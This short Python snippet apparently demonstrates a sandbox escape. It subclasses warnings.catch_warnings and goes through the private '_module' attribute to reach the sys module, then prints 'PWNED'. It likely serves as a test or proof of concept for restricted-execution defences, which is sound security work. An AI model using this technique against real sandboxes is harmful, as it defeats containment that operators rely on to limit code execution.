import warnings


class Plain(warnings.catch_warnings):
    pass


print("PWNED", vars(Plain())["_module"].sys)
